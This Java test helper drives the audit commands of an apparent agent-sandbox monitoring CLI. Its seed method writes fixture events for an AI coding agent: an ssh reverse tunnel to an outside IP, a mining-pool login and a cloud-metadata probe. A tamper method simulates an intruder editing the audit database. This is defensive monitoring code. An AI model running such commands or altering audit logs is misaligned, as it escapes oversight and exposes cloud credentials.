package dev.ale.cli.audit;

import dev.ale.cli.Main;
import dev.ale.core.event.Category;
import dev.ale.core.event.SafetyEvent;
import dev.ale.core.event.SafetyEvent.Action;
import dev.ale.core.event.SafetyEvent.Severity;
import dev.ale.monitor.audit.AuditLog;
import dev.ale.monitor.audit.AuditRecord;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.sql.SQLException;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalInt;

/** Runs {@code ale} in this JVM with output captured, and writes audit logs to run it on. */
final class AuditCli {

    record Result(int exit, String out, String err) {
    }

    private AuditCli() {
    }

    static Result run(String... args) {
        return run(new ByteArrayOutputStream(), args);
    }

    /** With stdout going to {@code out}, for a test that reads it while the command still runs. */
    static Result run(ByteArrayOutputStream out, String... args) {
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        int exit;
        try (PrintStream o = new PrintStream(out, true, StandardCharsets.UTF_8);
                PrintStream e = new PrintStream(err, true, StandardCharsets.UTF_8)) {
            exit = Main.run(args, o, e);
        }
        return new Result(exit, out.toString(StandardCharsets.UTF_8), err.toString(StandardCharsets.UTF_8));
    }

    /**
     * Five records as a run would leave them: a step, a reverse tunnel (killed), a miner in
     * another sandbox (killed), a metadata probe (blocked), and a step of the second sandbox.
     */
    static List<AuditRecord> seed(Path file) {
        try (AuditLog log = AuditLog.open(file)) {
            return List.of(
                    step(log, "sb-1", "ep-1", 1, "ls -la"),
                    log.append(event("ssh-reverse-tunnel", Category.TUNNEL, Action.KILL, "sb-1", "ep-1", 2,
                            "ssh -R 9000:localhost:22 203.0.113.7 opened a reverse tunnel")),
                    log.append(event("stratum-login", Category.MINING, Action.KILL, "sb-2", "ep-2", 5,
                            "stratum login to pool.example:3333")),
                    log.append(event("cloud-metadata", Category.METADATA, Action.BLOCK, "sb-1", "ep-1", 3,
                            "GET http://169.254.169.254/latest/meta-data/")),
                    step(log, "sb-2", "ep-2", 6, "nvidia-smi"));
        }
    }

    static AuditRecord step(AuditLog log, String sandbox, String episode, int step, String command) {
        return log.append("step", sandbox, Optional.of(episode), OptionalInt.of(step), Optional.empty(),
                Optional.empty(), Map.of("tool", "shell", "command", command));
    }

    static SafetyEvent event(String rule, Category category, Action action, String sandbox, String episode, int step,
            String detail) {
        return new SafetyEvent(rule, category, Severity.HIGH, action, sandbox, Optional.of(episode), OptionalInt.of(step),
                "coder-1", Optional.of("sha256:" + "ab".repeat(32)), Instant.now(), detail, Map.of("argv", detail));
    }

    /** What an intruder with the sqlite3 shell can do: plain SQL on the file, no ALE code. */
    static void tamper(Path file, String sql, Object... args) {
        try (Connection c = DriverManager.getConnection("jdbc:sqlite:" + file.toAbsolutePath());
                PreparedStatement p = c.prepareStatement(sql)) {
            for (int i = 0; i < args.length; i++) {
                p.setObject(i + 1, args[i]);
            }
            p.executeUpdate();
        } catch (SQLException e) {
            throw new IllegalStateException(sql, e);
        }
    }
}
